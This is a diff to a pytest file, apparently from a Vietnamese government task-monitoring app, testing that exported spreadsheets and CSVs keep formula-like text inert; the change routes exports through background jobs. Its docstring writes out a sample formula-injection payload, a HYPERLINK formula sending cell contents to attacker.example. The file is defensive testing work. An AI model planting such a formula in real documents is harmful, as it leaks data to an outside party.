@@ -2,7 +2,8 @@
 
 The attack: an officer's report reads `=HYPERLINK("http://attacker.example/leak?"&F5&F6,"Xem chi tiết")`, or a
 task title starts with `=`, `+`, `-` or `@`; the standing office opens an export and the spreadsheet runs it.
-Each file is downloaded through its real view, as its real reader would, and read back with openpyxl: no
+Each file is downloaded through its real view, as its real reader would (the generated documents through their
+background job: asked for, made by the worker, downloaded from the job's page), and read back with openpyxl: no
 cell is a formula, the text is there exactly as typed, and text that starts like a formula carries Excel's
 quote prefix (so it stays text even when edited). The public CSV prefixes such text with a `'`.
 """
@@ -20,6 +21,8 @@ from openpyxl import Workbook, load_workbook
 from giamsat.common.spreadsheets import csv_cell, sheet_append, starts_like_formula
 from giamsat.directives.choices import Confidentiality
 from giamsat.directives.tests.factories import task_led_by
+from giamsat.documents.tests.jobflow import fetch
+from giamsat.jobs.models import Job
 from giamsat.reporting import services
 from giamsat.reporting.models import ProgressReport
 
@@ -90,14 +93,14 @@ def assert_no_formula(data: bytes, expected: list[str]) -> None:
 
 class TaskExportTests:
     @pytest.mark.parametrize("who", ["standing_office", "officer"])
-    def test_titles_and_reports_stay_text(self, client, users, attack, who):
+    def test_titles_and_reports_stay_text(self, client, users, attack, run_jobs, who):
         client.force_login(users[who])
-        data = content(client.get(reverse("documents:task_list_export")))
+        data = fetch(client, run_jobs, reverse("documents:task_list_export")).content
         assert_no_formula(data, [*TITLES, PAYLOAD])
 
-    def test_dates_and_numbers_stay_dates_and_numbers(self, client, users, attack):
+    def test_dates_and_numbers_stay_dates_and_numbers(self, client, users, attack, run_jobs):
         client.force_login(users["standing_office"])
-        ws = load_workbook(io.BytesIO(content(client.get(reverse("documents:task_list_export"))))).active
+        ws = load_workbook(io.BytesIO(fetch(client, run_jobs, reverse("documents:task_list_export")).content)).active
         row = next(r for r in ws.iter_rows(min_row=4) if r[5].value == "Nhiệm vụ có báo cáo")
         assert row[8].value == datetime.datetime(2026, 6, 30)  # Thời hạn: a date cell
         assert row[8].number_format == "DD/MM/YYYY" and not row[8].quotePrefix
@@ -106,14 +109,16 @@ class TaskExportTests:
 
 
 class MonthlyAppendixTests:
-    def test_titles_and_reports_stay_text(self, client, users, attack):
+    def test_titles_and_reports_stay_text(self, client, users, attack, run_jobs):
         client.force_login(users["standing_office"])
         today = timezone.localdate()
-        response = client.get(
+        fetched = fetch(
+            client,
+            run_jobs,
             reverse("documents:monthly_report"),
             {"month": f"{today.year}-{today.month:02d}", "as_of": today.strftime("%d/%m/%Y"), "format": "xlsx"},
         )
-        assert_no_formula(content(response), [*TITLES, PAYLOAD])
+        assert_no_formula(fetched.content, [*TITLES, PAYLOAD])
 
 
 class BulkTemplateTests:
@@ -122,7 +127,7 @@ class BulkTemplateTests:
         data = content(client.get(reverse("reporting:bulk_excel")))
         assert_no_formula(data, [*TITLES, *REPORT_TEXTS.values()])
 
-    def test_a_draft_typed_as_a_formula_survives_the_round_trip(self, client, users, agency_skhcn):
+    def test_a_draft_typed_as_a_formula_survives_the_round_trip(self, client, users, agency_skhcn, run_jobs):
         """Export format = import format: a formula cell has no value to read back, so the draft would be lost."""
         task = task_led_by(agency_skhcn, title=TITLES[0])
         period = services.period_for(timezone.localdate())
@@ -136,7 +141,11 @@ class BulkTemplateTests:
         data = content(client.get(reverse("reporting:bulk_excel")))
         response = client.post(reverse("reporting:bulk_excel"), {"file": SimpleUploadedFile("bc.xlsx", data)})
         assert response.status_code == 302
-        assert ProgressReport.objects.get(task=task, period=period).work_done == PAYLOAD
+        run_jobs()  # the upload is read and saved in the background
+        job = Job.objects.get()
+        assert (job.state, job.result_note) == ("done", "Đã lưu 1 báo cáo dự thảo từ tệp Excel.")
+        report = ProgressReport.objects.get(task=task, period=period)
+        assert report.work_done == PAYLOAD and report.history.count() == 2  # written again, from the file
 
 
 class PublicCsvTests:
